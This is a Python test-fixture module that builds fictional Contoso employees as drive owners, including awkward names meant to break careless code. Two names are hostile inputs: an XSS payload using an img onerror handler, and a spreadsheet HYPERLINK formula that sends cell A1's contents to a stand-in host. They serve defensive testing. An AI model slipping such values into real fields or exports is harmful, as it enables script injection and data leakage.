"""Who works at the imaginary Contoso: believable names, and the awkward ones that break careless code."""

from __future__ import annotations

from dataclasses import dataclass

_GIVEN = (
    "Aisha", "Björn", "Chloé", "Dmitri", "Elif", "Fatima", "Grzegorz", "Hana", "Ingrid", "João", "Kwame",
    "Linh", "Mateo", "Noémie", "Oluwaseun", "Priya", "Quentin", "Rania", "Søren", "Tomás", "Ursula", "Václav",
    "Wei", "Ximena", "Yuki", "Zuzana", "Arjun", "Beatriz", "Callum", "Deniz",
)  # fmt: skip
_FAMILY = (
    "Andersson", "Bauer", "Castillo", "Dąbrowski", "Eriksen", "Ferreira", "Gruber", "Hoàng", "Ivanova",
    "Jensen", "Kovács", "Larsen", "Müller", "Nakamura", "Okafor", "Petrov", "Quiñones", "Rossi", "Schäfer",
    "Tanaka", "Uddin", "Vogel", "Walsh", "Xu", "Yılmaz", "Zhang", "Abebe", "Becker", "Costa", "Dubois", "Evans",
    "Fischer", "García", "Haddad",
)  # fmt: skip


@dataclass(frozen=True, slots=True)
class Person:
    """A drive's owner; `special` names what is odd about the drive, `story` what happened to its files, if anything."""

    name: str | None
    mailbox: str | None
    special: str | None = None
    story: str | None = None


_HAND_PICKED = (
    Person("Adele Vance", "adelev"),
    Person("Alex Wilber", "alexw"),
    Person("Diego Siciliano", "diegos"),
    Person("Isaiah Langer", "isaiahl", "sessions-fail"),
    Person("Lynne Robbins", "lynner", "no-fast-points"),
    Person(None, None, "deleted-user"),
    Person("Johanna Lorenz", "johannal", "unprotected"),
    Person("<img src=x onerror=alert(1)>", "imgsrcx", "markup-name"),
    Person('=HYPERLINK("https://contoso.invalid/?"&A1,"Pay slip")', "hyperlink", "formula-name"),
    Person("Zoë Brønsted-Łukasiewicz", "zoeb", "accents-name"),
    Person("Priya Shah 🚀", "priyas", "emoji-name"),
    Person('Pat "Buzz" O\'Brien', "patob", "quotes-name"),
    Person("Henrietta Mueller", "henriettam", "offboarding"),
    Person("Alex Wilber", "alexw2", "namesake"),
    Person("山田 太郎", "yamadat", "kanji-name"),
    Person("ليلى حداد", "leilah", "right-to-left-name"),
    Person("Nguyễn Thị Ánh", "anhn"),
    Person("Lee Gu", "leeg"),
    Person("Lidia Holloway", "lidiah", story="tidied"),
    Person("Miriam Graham", "miriamg", story="folder-deleted"),
    Person("Nestor Wilke", "nestorw", story="ransomware"),
    Person("Patti Fernandez", "pattif", story="odd-names"),
    Person("Pradeep Gupta", "pradeepg"),
    Person("Grady Archie", "gradya", story="deep"),
    Person("Joni Sherman", "jonis"),
    Person("Christie Cline", "christiec"),
    Person("Debra Berger", "debrab", story="huge"),
    Person("Ben Walters", "benw"),
    Person("Emily Braun", "emilyb"),
    Person("Irvin Sayers", "irvins"),
)


def person(index: int) -> Person:
    """The owner of the drive at this place in the list, however long the list is."""
    if index < len(_HAND_PICKED):
        return _HAND_PICKED[index]
    # 30 and 34 have the common factor 2; shifting the family name by the round makes all pairs come up.
    number = index - len(_HAND_PICKED)
    given = _GIVEN[number % len(_GIVEN)]
    family = _FAMILY[(number + number // len(_GIVEN)) % len(_FAMILY)]
    return Person(f"{given} {family}", f"user{index:05d}")
